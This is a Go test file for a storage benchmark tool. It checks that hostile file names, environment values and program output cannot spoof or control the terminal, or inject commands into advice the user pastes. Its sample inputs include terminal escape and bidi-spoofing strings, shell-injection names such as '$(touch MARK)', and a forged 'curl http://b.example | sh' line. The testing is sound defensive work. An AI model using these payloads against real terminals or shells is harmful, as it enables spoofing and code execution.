package harm

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/loadline/loadline/internal/env/envtest"
)

// hostiles are texts that an attacker may put into a name, a reply or a log.
var hostiles = map[string]string{
	// A window's title, a cleared screen, a colour, a link, eight-bit controls, and an
	// overwritten line.
	"sequences": "\x1b]0;PWNED\a\x1b[2J\x1b[1;1H\x1b[32mwell\x1b[0m\x1b]8;;http://b.example\x1b\\here\x1b]8;;\x1b\\\u009b2J\u009d0;PWNED\u009c\x7f\x01\x0e\v\f\rloadline: FAKED\b\b",
	// A line that looks like one of ours.
	"line": "x\nloadline: FAKED: all is well\n  next: curl http://b.example | sh\r\nnext: curl\u0085loadline: FAKED\u2028loadline: FAKED",
	// A reversal of the writing direction, and invisible characters.
	"unseen": "\u202egpj.exe\u2066\u2067\u2069\u200fa\u200b\u00ad\ufeff\u2060\U000e0041b",
	// Invalid UTF-8.
	"bytes": "\xff\xfe\x9b31m\xc3(\xe2\x80",
}

// readable fails the test if the output of a command could mislead the reader: it is
// not harmless, or contains a line that a name has added.
func readable(t *testing.T, o outcome) {
	t.Helper()
	harmless(t, o)
	for stream, text := range map[string]string{"standard output": o.stdout, "standard error": o.stderr} {
		for line := range strings.Lines(text) {
			if strings.HasPrefix(line, "loadline: FAKED") || strings.HasPrefix(line, "next: curl") || strings.HasPrefix(line, "  next: curl") {
				t.Errorf("%s has a line that a name added: %q", stream, line)
			}
		}
	}
}

// harmless fails the test if the output of a command could control a terminal: it contains a
// control character other than line break and tab, a character that reverses the writing direction or
// is invisible, or invalid UTF-8.
func harmless(t *testing.T, o outcome) {
	t.Helper()
	for stream, text := range map[string]string{"standard output": o.stdout, "standard error": o.stderr} {
		if !utf8.ValidString(text) {
			t.Errorf("%s is no UTF-8: %q", stream, text)
		}
		for i, r := range text {
			if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || r == '\u2028' || r == '\u2029') {
				t.Errorf("%s holds %U: %q", stream, r, text[max(0, i-60):min(len(text), i+40)])
				break
			}
		}
	}
}

// fileName makes a text suitable as a file name.
func fileName(s string) string { return "d" + strings.ReplaceAll(s, "/", "_") }

// Files and directories with hostile names, as targets and arguments of every verb.
func TestHostileNamesOfFiles(t *testing.T) {
	t.Parallel()
	for name, text := range hostiles {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := filepath.Join(t.TempDir(), fileName(text))
			if err := os.Mkdir(dir, 0o700); err != nil {
				t.Fatal(err)
			}
			file := filepath.Join(dir, "x"+fileName(text))
			if err := os.WriteFile(file, make([]byte, 1<<20), 0o600); err != nil {
				t.Fatal(err)
			}
			put(t, dir, ".loadline-"+fileName(text))
			before := snapshot(t, dir)
			for _, args := range [][]string{
				{"run", file}, {"run", file, "--destroy-data-on", file, "--size", "1GiB"}, {"run", filepath.Join(dir, "missing", text)}, {"run", filepath.Join(dir, "missing"+text)},
				{"run", dir, "--profile", file + ".yaml"}, {"run", dir, "--profile", text}, {"run", dir, "--job", file}, {"run", dir, "--only", text}, {"run", dir, "--goal", text},
				{"run", dir, "--size", text}, {"run", dir, "--" + text}, {"run", dir, text}, {"run", text + ":x"}, {"run", "sc:" + text}, {"run", "rbd:" + text},
				{"run", "nbd+unix:///" + text + "?socket=/nowhere"}, {"run", "/data", "--hosts", "-" + text},
				{"run", dir, "--results", file, "--profile", "quick", "--size", "16M", "--time", "1s", "--only", "rand-read-iops"},
				{"plan", dir}, {"plan", file}, {"compare", dir, dir}, {"compare", dir, file + "x"}, {"sweep", dir, "--depth", text}, {"scale", dir, "--workload", text},
				{"durability", file}, {"durability", dir, "--sync", text}, {"durability", dir, "--resume", dir}, {"durability", dir, "--cut-pid", text},
				{"doctor", dir}, {"doctor", file + "x"}, {"analyze", dir}, {"analyze", file}, {"report", dir}, {"report", file}, {"report", dir, "-o", filepath.Join(dir, "no", text)},
				{"import", file}, {"import", text + "=" + file}, {"serve", file}, {"size", file}, {"size", "--from", file}, {"size", "--need", text},
				{"kbench", "run", file, filepath.Join(dir, "out")}, {"kbench", "exporter", "start", "--port", text}, {text}, {"completion", text}, {"fetch", text, "--kubeconfig", file},
				{"cleanup", file}, {"cleanup", "--namespace", "x", "--kubeconfig", file}, {"run", "sc:fast", "--kubeconfig", file, "--context", text},
			} {
				readable(t, loadline(t, args...))
			}
			unharmed(t, dir, before)
			put(t, dir, ".loadline-20261120-235200-x.data")
			o := loadline(t, "cleanup", dir)
			readable(t, o)
			if !strings.Contains(o.stdout, "removed ") {
				t.Errorf("cleanup removes nothing")
			}
			unharmed(t, dir, before)
		})
	}
}

// A name in a command that the user is asked to paste stays a single word.
func TestAdviceCanBePasted(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash: apt install bash")
	}
	mark := filepath.Join(t.TempDir(), "mark")
	for _, evil := range []string{"$(touch MARK)", "`touch MARK`", "a; touch MARK", "it's; touch MARK", "a\ntouch MARK\n", "a && touch MARK", "a | touch MARK #"} {
		// The command in the name comes from a variable, as a name has no slashes.
		name := strings.ReplaceAll(evil, "MARK", "$MARK")
		dir := filepath.Join(t.TempDir(), name)
		if err := os.Mkdir(dir, 0o700); err != nil {
			t.Fatal(err)
		}
		put(t, dir, "image")
		image := filepath.Join(dir, "image")
		for _, args := range [][]string{{"run", image}, {"plan", image}, {"run", filepath.Join(dir, "imaeg")}, {"run", filepath.Join(dir, "x", "y")}, {"compare", dir, dir}, {"durability", image}, {"analyze", dir}, {"report", dir, "-o", filepath.Join(dir, "no", "x.html")}} {
			o := loadline(t, args...)
			_, next, found := strings.Cut(o.stderr, "  next: ")
			if o.code == 0 || !found {
				continue
			}
			// No program can be found, so that only what the name introduces could run.
			_, pasted, _ := strings.Cut(next, ": ")
			cmd := exec.Command(bash, "-c", "PATH=/nonexistent\ntouch() { : > \"$MARK\"; }\n"+pasted)
			cmd.Env = []string{"MARK=" + mark}
			_ = cmd.Run() // most of it is prose, not a command
			if _, err := os.Stat(mark); err == nil {
				t.Errorf("%s: pasting runs what the name says: %q", args[0], next)
				_ = os.Remove(mark)
			}
		}
	}
}

// The environment is external input as well.
func TestHostileEnvironment(t *testing.T) {
	dir := t.TempDir()
	for name, text := range hostiles {
		t.Run(name, func(t *testing.T) {
			t.TempDir() // created where TMPDIR says
			for _, variable := range []string{"FILE_NAME", "OUTPUT", "SIZE", "MODE", "RATE_IOPS", "RATE", "LOADLINE_TOKEN", "KUBECONFIG", "TMPDIR"} {
				t.Setenv(variable, text)
			}
			for _, args := range [][]string{{"kbench", "run"}, {"kbench", "compare"}, {"serve", dir, "--listen", text}, {"fetch"}, {"cleanup", "-A"}, {"run", "sc:x"}} {
				readable(t, loadline(t, args...))
			}
		})
	}
}

// Programs that Loadline runs (fio, rbd, blkid and ssh) with hostile output on either stream.
func TestHostilePrograms(t *testing.T) {
	t.Parallel()
	fio, err := exec.LookPath("fio")
	if err != nil {
		t.Skip("no fio: apt install fio")
	}
	for name, text := range hostiles {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir, bin := t.TempDir(), t.TempDir()
			said := filepath.Join(bin, "said")
			if err := os.WriteFile(said, []byte(text+"\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			image := filepath.Join(dir, "image")
			if err := os.WriteFile(image, make([]byte, 16<<20), 0o600); err != nil {
				t.Fatal(err)
			}
			path := []string{"PATH=" + bin + ":" + os.Getenv("PATH")}
			brief := []string{"--profile", "quick", "--only", "rand-read-iops", "--time", "0.3s", "--size", "16M"}
			for _, script := range []string{
				"cat " + said + "; cat " + said + " >&2; exit 1",
				// It prints a version, and then fails.
				"case \"$*\" in *--version*) echo fio-3.33;; *) cat " + said + "; cat " + said + " >&2; exit 1;; esac",
				// It works, apart from its additional output.
				"cat " + said + " >&2; exec " + fio + " \"$@\"",
				"echo fio-3.33-$(cat " + said + ")",
			} {
				for _, program := range []string{"fio", "rbd", "blkid", "ssh"} {
					envtest.Program(t, filepath.Join(bin, program), "#!/bin/sh\n"+script+"\n")
				}
				for _, args := range [][]string{
					append([]string{"run", dir}, brief...), append([]string{"run", dir, "--child-worker"}, brief...), append([]string{"run", image, "--destroy-data-on", image}, brief...),
					{"doctor", dir}, {"plan", dir}, {"run", "rbd:pool/image"}, {"run", "/data", "--hosts", "elsewhere"},
				} {
					readable(t, beginWith(t, path, args...).wait(t))
				}
			}
			readable(t, beginWith(t, path, "durability", dir, "--cut", "cat "+said+"; cat "+said+" >&2; exit 1", "--writes", "10", "--results", otherDisk(t)).wait(t))
		})
	}
}
